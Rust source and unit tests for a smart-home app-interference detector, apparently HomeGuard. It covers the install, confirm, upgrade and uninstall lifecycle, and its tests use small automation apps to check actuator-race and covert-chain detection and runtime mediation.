        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, HgError> {
        let started = self.telemetry.as_ref().map(|_| Instant::now());
        let report = self.stage_install(source, name, config)?;
        let report = self.confirm_install(report)?;
        self.publish_install(&report, started);
        Ok(report)
    }

    /// Ingests and checks under the staged configuration, then restores
    /// the recorder: recording becomes permanent only on confirmation, so
    /// a rejected install cannot leave bindings behind (which would change
    /// how *other* apps' slots unify from then on).
    fn stage_install(
        &mut self,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, HgError> {
        if self.is_installed(name) {
            // Checked before ingest, like stage_upgrade: a refused
            // re-install must not silently replace the app's rule file in
            // the shared store for every other home.
            return Err(HgError::AlreadyInstalled(name.to_string()));
        }
        let analysis = self.store.ingest(source, name)?;
        let app_name = analysis.name.clone();
        if self.is_installed(&app_name) {
            // The source declared a name other than the fallback it was
            // submitted under, and THAT app is installed here.
            return Err(HgError::AlreadyInstalled(app_name));
        }
        let saved = config.map(|info| {
            let snapshot = (self.bindings.clone(), self.values.clone());
            self.record_config(info);
            snapshot
        });
        let report = self.check_install(&app_name);
        if let Some((bindings, values)) = saved {
            self.bindings = bindings;
            self.values = values;
            self.engine.reconfigure(self.detector());
            self.mediation = None;
        }
        let mut report = report?;
        report.config = config.cloned();
        Ok(report)
    }

    /// All installed rules, in install order.
    pub fn installed_rules(&self) -> Vec<&Rule> {
        self.engine.installed_rules().collect()
    }

    /// Names of the confirmed-installed apps, in first-install order —
    /// including apps whose extraction yielded zero rules.
    pub fn installed_apps(&self) -> Vec<String> {
        self.apps.clone()
    }

    /// Whether `app`'s installation is confirmed in this home.
    pub fn is_installed(&self, app: &str) -> bool {
        self.apps.iter().any(|a| a == app)
    }

    /// The Allowed list.
    pub fn allowed(&self) -> &[Threat] {
        &self.allowed
    }

    /// The incremental detection engine (for inspection and benches).
    pub fn engine(&self) -> &DetectionEngine {
        &self.engine
    }

    /// The session's runtime handling policies.
    pub fn handling_policy(&self) -> &PolicyTable {
        &self.handling
    }

    /// Replaces the session's handling policies (e.g. the user ranked an
    /// Actuator Race pair after confirming it). Compiled mediation points
    /// embed resolved policies, so the cache is invalidated.
    pub fn set_handling_policy(&mut self, table: PolicyTable) {
        self.handling = table;
        self.mediation = None;
    }

    /// Compiles the session's confirmed-install threat set (the Allowed
    /// list) into a runtime mediation engine, ready to be installed into
    /// an event loop (e.g. `hg_sim::Home::set_mediator`).
    ///
    /// Every interference the user knowingly accepted at install time
    /// becomes a mediation point, keyed the way the detection index keys
    /// candidates, and handled per the session's
    /// [`PolicyTable`] — so "allowed" means *mediated at runtime*, not
    /// *ignored*.
    pub fn enforcer(&mut self) -> SharedEnforcer {
        let mut enforcer = Enforcer::new(self.mediation_index().clone());
        enforcer.set_telemetry(
            Some(self.mediation_sink.clone()),
            self.telemetry.clone(),
            self.label,
        );
        SharedEnforcer::new(enforcer)
    }

    /// The compiled mediation points of the current Allowed list, cached
    /// between calls. Lifecycle mutations keep the cache honest: uninstall
    /// retires the app's points in place, installs/upgrades/rebinding
    /// invalidate it for recompilation here.
    pub fn mediation_index(&mut self) -> &MediationIndex {
        if self.mediation.is_none() {
            self.mediation = Some(self.compile_mediation());
        }
        match &self.mediation {
            Some(index) => index,
            None => unreachable!("mediation cache populated above"),
        }
    }

    /// Extracts the session's persistable state (see [`HomeState`]).
    pub fn export_state(&self) -> HomeState {
        HomeState {
            modes: self.modes.clone(),
            policy: self.policy,
            chain_depth: self.chain_depth,
            apps: self.apps.clone(),
            rules: self.engine.installed_rules().cloned().collect(),
            bindings: self
                .bindings
                .iter()
                .map(|((app, input), device)| (app.clone(), input.clone(), device.clone()))
                .collect(),
            values: self
                .values
                .iter()
                .map(|((app, input), value)| (app.clone(), input.clone(), value.clone()))
                .collect(),
            allowed: self.allowed.clone(),
            handling: self.handling.clone(),
        }
    }

    /// Rebuilds a session from exported state against `store`. Derived
    /// state is reconstructed, never deserialized: the detection engine
    /// re-posts the rules in their original install order (so incremental
    /// checks and stats are identical to the live session's), and the
    /// mediation index recompiles lazily from the restored Allowed list.
    /// Any enforcer built from the restored session starts with **empty**
    /// per-run memory — in-flight defer grants and fired-rule traces never
    /// survive a restart. Verdict sharing and the lowered pair-check tier
    /// reset to their defaults (enabled): the
    /// [`HomeBuilder::verdict_sharing`] and
    /// [`HomeBuilder::lowered_pairs`] opt-outs are diagnostic knobs, not
    /// persisted state.
    pub fn restore_state(store: Arc<RuleStore>, state: HomeState) -> Home {
        let mut home = Home {
            store,
            engine: DetectionEngine::default(),
            bindings: state
                .bindings
                .into_iter()
                .map(|(app, input, device)| ((app, input), device))
                .collect(),
            values: state
                .values
                .into_iter()
                .map(|(app, input, value)| ((app, input), value))
                .collect(),
            allowed: state.allowed,
            apps: state.apps,
            modes: state.modes,
            policy: state.policy,
            chain_depth: state.chain_depth.max(2),
            handling: state.handling,
            mediation: None,
            share_verdicts: true,
            lowered_pairs: true,
            telemetry: None,
            label: 0,
            mediation_sink: Arc::new(Mutex::new(MediationStats::default())),
        };
        home.engine = DetectionEngine::new(home.detector());
        home.engine.install_rules(state.rules.iter());
        home
    }

    fn compile_mediation(&self) -> MediationIndex {
        let rules: Vec<Rule> = self.installed_rules().into_iter().cloned().collect();
        let unification = self.detector().unification;
        MediationIndex::compile(&self.allowed, &rules, &unification, &self.handling)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hg_detector::ThreatKind;

    const ON_APP: &str = r#"
definition(name: "OnApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.on() }
"#;

    const OFF_APP: &str = r#"
definition(name: "OffApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.off() }
"#;

    #[test]
    fn first_install_is_clean_and_confirmed() {
        let mut home = Home::new(RuleStore::shared());
        let report = home.install_app(ON_APP, "OnApp", None).unwrap();
        assert!(report.is_clean());
        assert!(report.installed);
        assert_eq!(home.installed_rules().len(), 1);
    }

    #[test]
    fn dirty_install_requires_explicit_confirmation() {
        let mut home = Home::new(RuleStore::shared());
        home.install_app(ON_APP, "OnApp", None).unwrap();
        let report = home.install_app(OFF_APP, "OffApp", None).unwrap();
        assert!(!report.is_clean());
        assert!(!report.installed, "dirty installs must not auto-confirm");
        assert!(report
            .threats
            .iter()
            .any(|t| t.kind == ThreatKind::ActuatorRace));
        assert_eq!(home.installed_rules().len(), 1, "OffApp not recorded yet");
        assert!(home.allowed().is_empty());

        let report = home.confirm_install(report).unwrap();
        assert!(report.installed);
        assert_eq!(home.installed_rules().len(), 2);
        assert!(
            !home.allowed().is_empty(),
            "threats moved to the Allowed list"
        );
    }

    #[test]
    fn forced_install_confirms_dirty_reports() {
        let mut home = Home::new(RuleStore::shared());
        home.install_app_forced(ON_APP, "OnApp", None).unwrap();
        let report = home.install_app_forced(OFF_APP, "OffApp", None).unwrap();
        assert!(!report.is_clean());
        assert!(report.installed);
        assert_eq!(home.installed_rules().len(), 2);
        assert!(!home.allowed().is_empty());
    }

    #[test]
    fn config_bindings_change_verdict() {
        let mut home = Home::new(RuleStore::shared());
        let cfg_a = ConfigInfo::new("OnApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-1");
        home.install_app(ON_APP, "OnApp", Some(&cfg_a)).unwrap();
        // OffApp bound to a DIFFERENT lamp: no race.
        let cfg_b = ConfigInfo::new("OffApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-2");
        let report = home.install_app(OFF_APP, "OffApp", Some(&cfg_b)).unwrap();
        assert!(
            !report
                .threats
                .iter()
                .any(|t| t.kind == ThreatKind::ActuatorRace),
            "{:#?}",
            report.threats
        );
    }

    #[test]
    fn rejected_install_reverts_staged_config() {
        // A dirty install staged with bindings is rejected: the bindings
        // must not linger, or they would silently flip the Auto policy
        // from by-type to bindings unification for every later check.
        let mut home = Home::new(RuleStore::shared());
        home.install_app(ON_APP, "OnApp", None).unwrap();
        let cfg = ConfigInfo::new("OffApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-2");
        let report = home.install_app(OFF_APP, "OffApp", Some(&cfg)).unwrap();
        assert!(!report.installed, "{:#?}", report.threats);
        drop(report); // user rejects the app

        // Under restored by-type unification the race must still surface.
        let check = home.check_install("OffApp").unwrap();
        assert!(
            check
                .threats
                .iter()
                .any(|t| t.kind == ThreatKind::ActuatorRace),
            "bindings leaked from the rejected install: {:#?}",
            check.threats
        );
    }

    #[test]
    fn confirmed_install_applies_staged_config() {
        let mut home = Home::new(RuleStore::shared());
        let cfg_a = ConfigInfo::new("OnApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-1");
        home.install_app(ON_APP, "OnApp", Some(&cfg_a)).unwrap();
        let cfg_b = ConfigInfo::new("OffApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-1");
        let report = home.install_app(OFF_APP, "OffApp", Some(&cfg_b)).unwrap();
        assert!(!report.installed);
        let report = home.confirm_install(report).unwrap();
        assert!(report.installed);
        // Both apps' bindings are now permanent: a same-lamp re-check of a
        // third identical app still races under bindings unification.
        let check = home.check_install("OffApp").unwrap();
        assert!(
            check
                .threats
                .iter()
                .any(|t| t.kind == ThreatKind::ActuatorRace),
            "{:#?}",
            check.threats
        );
    }

    #[test]
    fn chained_detection_through_allowed_list() {
        // App1: motion -> switch on. App2: switch on -> mode Home.
        // App3: mode change -> unlock door. Installing all three must
        // surface the 3-rule covert chain at App3's install.
        let app1 = r#"
definition(name: "MotionSwitch")
input "m", "capability.motionSensor"
input "sw", "capability.switch", title: "hall switch"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { sw.on() }
"#;
        let app2 = r#"
definition(name: "SwitchMode")
input "sw", "capability.switch", title: "hall switch"
def installed() { subscribe(sw, "switch.on", h) }
def h(evt) { setLocationMode("Home") }
"#;
        let app3 = r#"
definition(name: "ModeUnlock")
input "door", "capability.lock", title: "front door"
def installed() { subscribe(location, "mode", h) }
def h(evt) { if (location.mode == "Home") { door.unlock() } }
"#;
        let mut home = Home::new(RuleStore::shared());
        home.install_app_forced(app1, "MotionSwitch", None).unwrap();
        home.install_app_forced(app2, "SwitchMode", None).unwrap();
        let report = home.install_app_forced(app3, "ModeUnlock", None).unwrap();
        assert!(
            !report.chains.is_empty(),
            "expected a covert chain, threats: {:#?}",
            report.threats
        );
        let chain = &report.chains[0];
        assert!(chain.rules.len() >= 3, "{chain}");
    }

    #[test]
    fn two_homes_share_one_store() {
        let store = RuleStore::shared();
        let mut alice = Home::new(store.clone());
        let mut bob = Home::builder(store.clone()).modes(["Day", "Night"]).build();

        alice.install_app(ON_APP, "OnApp", None).unwrap();
        // Bob installs the same store app: extraction is served from cache,
        // and his home is clean because HIS home has no competing rule.
        let report = bob.install_app(ON_APP, "OnApp", None).unwrap();
        assert!(report.is_clean());
        assert!(store.cache_hits() >= 1);
        assert_eq!(store.len(), 1);

        // Interference stays per-home: OffApp races in Alice's home...
        let dirty = alice.install_app(OFF_APP, "OffApp", None).unwrap();
        assert!(!dirty.is_clean());
        // ...but Bob's session state is untouched by Alice's verdicts.
        assert_eq!(bob.installed_rules().len(), 1);
        assert!(bob.allowed().is_empty());
    }

    #[test]
    fn session_threats_flow_into_the_runtime_enforcer() {
        use hg_capability::device_kind::DeviceKind;
        use hg_runtime::PolicyTable;

        let mut home = Home::builder(RuleStore::shared())
            .handling_policy(PolicyTable::block_all())
            .build();
        home.install_app_forced(ON_APP, "OnApp", None).unwrap();
        home.install_app_forced(OFF_APP, "OffApp", None).unwrap();
        assert!(!home.allowed().is_empty());

        // The confirmed-install threat set compiles straight into mediation
        // points...
        let enforcer = home.enforcer();
        assert!(enforcer.with(|e| !e.index().is_empty()));

        // ...and the enforcer sits inline in a simulated home: of the two
        // racing rules, exactly one acts per run.
        let unify = Unification::ByType;
        let mut sim = hg_sim::Home::new(11);
        sim.add_device(hg_sim::Device::new(
            "type:motionSensor/unknown",
            "motion",
            "motionSensor",
            DeviceKind::Unknown,
        ));
        sim.add_device(hg_sim::Device::new(
            "type:switch/light",
            "lamp",
            "switch",
            DeviceKind::Light,
        ));
        for rule in home.installed_rules() {
            sim.install_rule(unify.unify_rule(rule));
        }
        sim.set_mediator(enforcer.mediator());
        sim.stimulate(
            "type:motionSensor/unknown",
            "motion",
            Value::Sym("active".into()),
        );
        assert!(
            sim.fired("OnApp#0") != sim.fired("OffApp#0"),
            "exactly one racing rule must act, trace: {:#?}",
            sim.trace
        );
        assert_eq!(enforcer.journal().len(), 1);
        assert_eq!(enforcer.stats().mediated, 1);
    }

    #[test]
    fn zero_rule_apps_have_a_full_lifecycle() {
        // A pure web-service endpoint app extracts to zero rules; it must
        // still install, show as installed, refuse a double install, and
        // uninstall cleanly.
        let endpoint = r#"
definition(name: "WebOnly")
input "lamp", "capability.switch", title: "lamp"
"#;
        let mut home = Home::new(RuleStore::shared());
        let report = home.install_app(endpoint, "WebOnly", None).unwrap();
        assert!(report.installed);
        assert!(report.rules.is_empty());
        assert!(home.is_installed("WebOnly"));
        assert_eq!(home.installed_apps(), vec!["WebOnly".to_string()]);
        assert!(matches!(
            home.install_app(endpoint, "WebOnly", None),
            Err(HgError::AlreadyInstalled(_))
        ));
        let removed = home.uninstall_app("WebOnly").unwrap();
        assert!(removed.removed_rules.is_empty());
        assert!(!home.is_installed("WebOnly"));
        assert!(home.installed_apps().is_empty());
    }

    #[test]
    fn stale_reports_cannot_be_confirmed_twice() {
        let mut home = Home::new(RuleStore::shared());
        home.install_app(ON_APP, "OnApp", None).unwrap();
        let report = home.install_app(OFF_APP, "OffApp", None).unwrap();
        assert!(!report.installed);
        let confirmed = home.confirm_install(report.clone()).unwrap();
        assert!(confirmed.installed);
        // Confirming the same report again would duplicate OffApp's rules
        // under one identity.
        assert!(matches!(
            home.confirm_install(report),
            Err(HgError::AlreadyInstalled(app)) if app == "OffApp"
        ));
        assert_eq!(home.installed_rules().len(), 2);

        // An upgrade report goes stale when its app is uninstalled before
        // confirmation: confirming would resurrect it.
        let v2 = OFF_APP.replace("lamp.off()", "lamp.on()");
        let upgrade = home.upgrade_app(&v2, "OffApp", None).unwrap();
        assert!(upgrade.installed, "v2 agrees with OnApp: clean upgrade");
        let stale = home.upgrade_app(OFF_APP, "OffApp", None).unwrap();
        assert!(!stale.installed, "back to racing: dirty");
        home.uninstall_app("OffApp").unwrap();
        assert!(matches!(
            home.confirm_install(stale),
            Err(HgError::UnconfirmedInstall(app)) if app == "OffApp"
        ));
        assert_eq!(home.installed_apps(), vec!["OnApp".to_string()]);
    }

    #[test]
    fn double_install_is_a_typed_error() {
        let mut home = Home::new(RuleStore::shared());
        home.install_app(ON_APP, "OnApp", None).unwrap();
        assert!(matches!(
            home.install_app(ON_APP, "OnApp", None),
            Err(HgError::AlreadyInstalled(app)) if app == "OnApp"
        ));
        assert_eq!(home.installed_rules().len(), 1);
    }

    #[test]
    fn refused_reinstall_does_not_touch_the_store() {
        // A refused re-install must not silently replace the app's rule
        // file in the shared store: other homes would start seeing the
        // rejected source's rules.
        let mut home = Home::new(RuleStore::shared());
        home.install_app(ON_APP, "OnApp", None).unwrap();
        let modified = ON_APP.replace("lamp.on()", "lamp.off()");
        assert!(matches!(
            home.install_app(&modified, "OnApp", None),
            Err(HgError::AlreadyInstalled(_))
        ));
        assert_eq!(
            home.store().rules_of("OnApp").unwrap()[0].actions[0].command,
            "on",
            "the store must still serve the installed version"
        );
    }

    #[test]
    fn uninstall_retracts_rules_threats_and_mediation_points() {
        let mut home = Home::builder(RuleStore::shared())
            .handling_policy(PolicyTable::block_all())
            .build();
        home.install_app_forced(ON_APP, "OnApp", None).unwrap();
        home.install_app_forced(OFF_APP, "OffApp", None).unwrap();
        assert!(!home.allowed().is_empty());
        assert!(!home.mediation_index().is_empty());

        let report = home.uninstall_app("OffApp").unwrap();
        assert_eq!(report.removed_rules, vec![RuleId::new("OffApp", 0)]);
        assert_eq!(report.retired_threats, 1);
        assert_eq!(home.installed_apps(), vec!["OnApp".to_string()]);
        assert!(home.allowed().is_empty());
        // The uninstalled app's rules produce zero mediation points.
        assert!(home.mediation_index().is_empty());
        assert_eq!(
            home.mediation_index()
                .points_for_rule(&RuleId::new("OffApp", 0))
                .count(),
            0
        );

        // A re-check of OffApp sees the race again (OnApp is still there),
        // and a fresh install is no longer AlreadyInstalled.
        let check = home.check_install("OffApp").unwrap();
        assert!(check
            .threats
            .iter()
            .any(|t| t.kind == ThreatKind::ActuatorRace));
        let report = home.install_app(OFF_APP, "OffApp", None).unwrap();
        assert!(!report.installed, "dirty install awaits the user again");
    }

    #[test]
    fn uninstall_of_unknown_targets_is_typed() {
        let mut home = Home::new(RuleStore::shared());
        assert!(matches!(
            home.uninstall_app("Ghost"),
            Err(HgError::UnknownApp(app)) if app == "Ghost"
        ));
        // In the store (another home ingested it) but never confirmed here:
        home.store().ingest(ON_APP, "OnApp").unwrap();
        assert!(matches!(
            home.uninstall_app("OnApp"),
            Err(HgError::UnconfirmedInstall(app)) if app == "OnApp"
        ));
    }

    #[test]
    fn uninstall_forgets_the_apps_recorded_config() {
        // OnApp and OffApp bound to different lamps: no race. After OffApp
        // is uninstalled and reinstalled *without* bindings, Auto
        // unification must not resurrect its stale recorded slots.
        let mut home = Home::new(RuleStore::shared());
        let cfg_a = ConfigInfo::new("OnApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-1");
        home.install_app(ON_APP, "OnApp", Some(&cfg_a)).unwrap();
        let cfg_b = ConfigInfo::new("OffApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-2");
        let report = home
            .install_app_forced(OFF_APP, "OffApp", Some(&cfg_b))
            .unwrap();
        assert!(
            !report
                .threats
                .iter()
                .any(|t| t.kind == ThreatKind::ActuatorRace),
            "different lamps cannot race: {:#?}",
            report.threats
        );

        home.uninstall_app("OffApp").unwrap();
        // Unbound OffApp slots now unify with OnApp's recorded lamp by
        // type... no: OnApp's binding remains, OffApp is unbound, so under
        // Bindings unification its slot stays a distinct `slot:` key.
        let check = home.check_install("OffApp").unwrap();
        assert!(
            !check
                .threats
                .iter()
                .any(|t| t.kind == ThreatKind::ActuatorRace),
            "{:#?}",
            check.threats
        );
        // Re-binding the reinstall to OnApp's lamp races again.
        let cfg_b2 = ConfigInfo::new("OffApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-1");
        let report = home.install_app(OFF_APP, "OffApp", Some(&cfg_b2)).unwrap();
        assert!(
            report
                .threats
                .iter()
                .any(|t| t.kind == ThreatKind::ActuatorRace),
            "{:#?}",
            report.threats
        );
    }

    #[test]
    fn clean_upgrade_replaces_rules_in_place() {
        let mut home = Home::new(RuleStore::shared());
        home.install_app(ON_APP, "OnApp", None).unwrap();
        // v2 flips the command; still the only app, so the upgrade is clean
        // and auto-confirms.
        let v2 = ON_APP.replace("lamp.on()", "lamp.off()");
        let report = home.upgrade_app(&v2, "OnApp", None).unwrap();
        assert!(report.installed);
        assert!(report.is_upgrade());
        assert_eq!(home.installed_rules().len(), 1);
        assert_eq!(home.installed_rules()[0].actions[0].command, "off");
    }

    #[test]
    fn dirty_upgrade_waits_for_confirmation_and_rollback_is_clean() {
        // OnApp + LeakApp (unrelated) installed; upgrading LeakApp to a
        // lamp-racing v2 is dirty: the report waits, the old version stays.
        let leak = r#"
definition(name: "LeakApp")
input "leak", "capability.waterSensor"
input "valve", "capability.valve"
def installed() { subscribe(leak, "water.wet", h) }
def h(evt) { valve.close() }
"#;
        let leak_v2 = r#"
definition(name: "LeakApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.off() }
"#;
        let mut home = Home::new(RuleStore::shared());
        home.install_app(ON_APP, "OnApp", None).unwrap();
        home.install_app(leak, "LeakApp", None).unwrap();

        let report = home.upgrade_app(leak_v2, "LeakApp", None).unwrap();
        assert!(!report.installed, "dirty upgrade must wait");
        assert!(report
            .threats
            .iter()
            .any(|t| t.kind == ThreatKind::ActuatorRace));
        // Rejecting leaves the old version running.
        assert_eq!(home.installed_rules().len(), 2);
        assert_eq!(
            home.installed_rules()[1].actions[0].command,
            "close",
            "old LeakApp v1 must still be installed"
        );

        // Confirming retires v1 and installs v2; the race joins Allowed.
        let report = home.upgrade_app(leak_v2, "LeakApp", None).unwrap();
        let report = home.confirm_install(report).unwrap();
        assert!(report.installed);
        assert_eq!(home.installed_rules().len(), 2);
        assert_eq!(home.installed_rules()[1].actions[0].command, "off");
        assert_eq!(home.allowed().len(), 1);
    }

    #[test]
    fn upgrade_errors_are_typed() {
        let mut home = Home::new(RuleStore::shared());
        assert!(matches!(
            home.upgrade_app(ON_APP, "OnApp", None),
            Err(HgError::UnknownApp(_))
        ));
        home.store().ingest(ON_APP, "OnApp").unwrap();
        assert!(matches!(
            home.upgrade_app(ON_APP, "OnApp", None),
            Err(HgError::UnconfirmedInstall(_))
        ));
        // A renaming upgrade is refused before touching the session.
        let mut home = Home::new(RuleStore::shared());
        home.install_app(ON_APP, "OnApp", None).unwrap();
        let renamed = ON_APP.replace("OnApp", "OtherApp");
        assert!(matches!(
            home.upgrade_app(&renamed, "OnApp", None),
            Err(HgError::UpgradeRenames { .. })
        ));
        assert_eq!(home.installed_apps(), vec!["OnApp".to_string()]);
    }

    #[test]
    fn upgrade_remaps_surviving_priority_ranks_and_drops_dangling() {
        use hg_runtime::HandlingPolicy;

        // TwoRule v1: rule #0 races with OnApp (user ranks it), rule #1 is
        // an unrelated valve automation (also ranked, defensively).
        let two_v1 = r#"
definition(name: "TwoRule")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
input "leak", "capability.waterSensor"
input "valve", "capability.valve"
def installed() { subscribe(m, "motion.active", h); subscribe(leak, "water.wet", k) }
def h(evt) { lamp.off() }
def k(evt) { valve.close() }
"#;
        // v2 drops the lamp rule and keeps the valve automation, which
        // renumbers it from TwoRule#1 to TwoRule#0.
        let two_v2 = r#"
definition(name: "TwoRule")
input "leak", "capability.waterSensor"
input "valve", "capability.valve"
def installed() { subscribe(leak, "water.wet", k) }
def k(evt) { valve.close() }
"#;
        let mut home = Home::new(RuleStore::shared());
        home.install_app(ON_APP, "OnApp", None).unwrap();
        home.install_app_forced(two_v1, "TwoRule", None).unwrap();
        home.set_handling_policy(PolicyTable::default().prioritize([
            RuleId::new("TwoRule", 0),
            RuleId::new("OnApp", 0),
            RuleId::new("TwoRule", 1),
        ]));

        let report = home.upgrade_app_forced(two_v2, "TwoRule", None).unwrap();
        assert!(report.installed);
        // The lamp rule's rank is dangling (its automation is gone)...
        assert_eq!(report.dropped_ranks, vec![RuleId::new("TwoRule", 0)]);
        // ...while the surviving valve rule's rank followed the renumbering
        // (TwoRule#1 → TwoRule#0) and other apps' ranks are untouched.
        assert!(matches!(
            home.handling_policy().policy(ThreatKind::ActuatorRace),
            HandlingPolicy::Priority(order)
                if *order == vec![RuleId::new("OnApp", 0), RuleId::new("TwoRule", 0)]
        ));
    }

    #[test]
    fn uninstall_drops_the_apps_priority_ranks() {
        use hg_runtime::HandlingPolicy;

        let mut home = Home::new(RuleStore::shared());
        home.install_app(ON_APP, "OnApp", None).unwrap();
        home.install_app_forced(OFF_APP, "OffApp", None).unwrap();
        home.set_handling_policy(
            PolicyTable::default().prioritize([RuleId::new("OffApp", 0), RuleId::new("OnApp", 0)]),
        );
        let report = home.uninstall_app("OffApp").unwrap();
        assert_eq!(report.dropped_ranks, vec![RuleId::new("OffApp", 0)]);
        assert!(matches!(
            home.handling_policy().policy(ThreatKind::ActuatorRace),
            HandlingPolicy::Priority(order) if *order == vec![RuleId::new("OnApp", 0)]
        ));
    }

    #[test]
    fn export_restore_round_trips_the_session() {
        let store = RuleStore::shared();
        let mut home = Home::builder(store.clone())
            .modes(["Day", "Night"])
            .handling_policy(PolicyTable::block_all())
            .build();
        let cfg = ConfigInfo::new("OnApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-1");
        home.install_app(ON_APP, "OnApp", Some(&cfg)).unwrap();
        home.install_app_forced(OFF_APP, "OffApp", None).unwrap();

        let mut restored = Home::restore_state(store, home.export_state());
        assert_eq!(restored.installed_apps(), home.installed_apps());
        assert_eq!(
            restored
                .installed_rules()
                .iter()
                .map(|r| r.to_string())
                .collect::<Vec<_>>(),
            home.installed_rules()
                .iter()
                .map(|r| r.to_string())
                .collect::<Vec<_>>()
        );
        assert_eq!(restored.allowed().len(), home.allowed().len());
        assert_eq!(restored.modes(), home.modes());
        // Derived state rebuilt: the same fresh check gets the same answer,
        // and the mediation points recompile to the same population.
        let live = home.check_install("OffApp").unwrap();
        let back = restored.check_install("OffApp").unwrap();
        assert_eq!(live.threats, back.threats);
        // Both sessions share the store's verdict cache, so the restored
        // session's identical check is answered from it — the logical
        // effort is identical, only the hit/miss markers differ.
        assert_eq!(live.stats.logical(), back.stats.logical());
        assert_eq!(back.stats.cache_hits, back.stats.pairs);
        assert_eq!(
            home.mediation_index().len(),
            restored.mediation_index().len()
        );
    }

    #[test]
    fn check_install_many_matches_sequential_installs() {
        let store = RuleStore::shared();
        store.ingest(ON_APP, "OnApp").unwrap();
        store.ingest(OFF_APP, "OffApp").unwrap();
        let home = Home::builder(store.clone()).build();
        let reports = home.check_install_many(&["OnApp", "OffApp"]).unwrap();
        assert_eq!(reports.len(), 2);
        assert!(reports[0].is_clean());
        assert!(reports[1]
            .threats
            .iter()
            .any(|t| t.kind == ThreatKind::ActuatorRace));
        // check does not install.
        assert!(home.installed_rules().is_empty());
    }

    #[test]
    fn telemetry_bus_observes_lifecycle_without_changing_reports() {
        let store = RuleStore::shared();
        let mut silent = Home::new(store.clone());
        let mut wired = Home::new(store.clone());
        let bus = Arc::new(TelemetryBus::new());
        wired.set_telemetry(Some(bus.clone()), 7);

        let quiet_on = silent.install_app_forced(ON_APP, "OnApp", None).unwrap();
        let quiet_off = silent.install_app_forced(OFF_APP, "OffApp", None).unwrap();
        let loud_on = wired.install_app_forced(ON_APP, "OnApp", None).unwrap();
        let loud_off = wired.install_app_forced(OFF_APP, "OffApp", None).unwrap();
        // Pure observer: the wired session reports the same verdicts.
        assert_eq!(quiet_on.threats, loud_on.threats);
        assert_eq!(quiet_off.threats, loud_off.threats);
        assert_eq!(quiet_off.stats.logical(), loud_off.stats.logical());
        let gone = wired.uninstall_app("OffApp").unwrap();

        let mut events = Vec::new();
        bus.drain_since(0, &mut events);
        let installs: Vec<_> = events
            .iter()
            .filter_map(|(_, e)| match e {
                TelemetryEvent::InstallCompleted {
                    home,
                    app,
                    threats,
                    cache_hits,
                    cache_misses,
                    pairs,
                    ..
                } => Some((
                    *home,
                    app.clone(),
                    *threats,
                    *cache_hits + *cache_misses,
                    *pairs,
                )),
                _ => None,
            })
            .collect();
        assert_eq!(installs.len(), 2);
        assert_eq!(installs[0].0, 7, "events stamped with the home label");
        assert_eq!(installs[1].1, "OffApp");
        assert_eq!(
            installs[1].2,
            loud_off.threats.len() as u64,
            "event embeds the report's threat count"
        );
        assert_eq!(
            installs[1].3, installs[1].4,
            "every checked pair is either a cache hit or a miss"
        );
        let threat_events = events
            .iter()
            .filter(|(_, e)| matches!(e, TelemetryEvent::ThreatDetected { .. }))
            .count();
        assert_eq!(threat_events, loud_off.threats.len());
        assert!(events.iter().any(|(_, e)| matches!(
            e,
            TelemetryEvent::UninstallCompleted { app, removed_rules, .. }
                if app == "OffApp" && *removed_rules == gone.removed_rules.len() as u64
        )));
        // The mediation sink starts empty and is session-visible.
        assert_eq!(wired.mediation_stats().events, 0);
        let _ = wired.enforcer();
        assert_eq!(wired.mediation_stats().events, 0);
    }
}
