//! Per-home sessions: the installation workflow (paper Fig. 6 and §VI-D)
//! on top of the shared rule store.
//!
//! Whenever a new app is installed (or reconfigured), HomeGuard:
//!
//! 1. collects the configuration information ([`hg_config::ConfigInfo`]);
//! 2. fetches the app's rules from the shared [`RuleStore`];
//! 3. runs incremental detection against the installed rules — only the
//!    candidate-index collisions are visited;
//! 4. extends the detection through the *Allowed* list to find chained
//!    (indirect) interference;
//! 5. presents the findings and records the user's verdict — confirming a
//!    dirty install moves the pairwise findings onto the Allowed list so
//!    future installs can chain through them.
//!
//! A [`Home`] owns only per-home state (installed rules, device bindings,
//! user values, the Allowed list); everything app-specific but
//! home-independent lives in the store, shared across every home the
//! process serves.

use crate::store::RuleStore;
use hg_config::ConfigInfo;
use hg_detector::{
    find_chains, Chain, DetectStats, DetectionEngine, Detector, Edge, Threat, Unification,
};
use hg_rules::rule::Rule;
use hg_rules::value::Value;
use hg_runtime::{Enforcer, PolicyTable, SharedEnforcer};
use hg_symexec::ExtractError;
use std::collections::BTreeMap;
use std::sync::Arc;

/// How the home resolves device slots for detection.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum UnificationPolicy {
    /// Use recorded device bindings when any exist, else assume two slots
    /// of the same device type may be the same device (the deployment
    /// default: precise once configuration is collected).
    #[default]
    Auto,
    /// Always unify by device type, ignoring recorded bindings (store-wide
    /// analysis, paper §VIII-B).
    ByType,
}

/// Builds a [`Home`] session against a shared store.
#[derive(Clone)]
pub struct HomeBuilder {
    store: Arc<RuleStore>,
    modes: Vec<String>,
    policy: UnificationPolicy,
    chain_depth: usize,
    config: Vec<ConfigInfo>,
    handling: PolicyTable,
}

impl HomeBuilder {
    /// A builder with the deployment defaults: Home/Away/Night modes,
    /// automatic unification, chains up to 4 edges.
    pub fn new(store: Arc<RuleStore>) -> HomeBuilder {
        HomeBuilder {
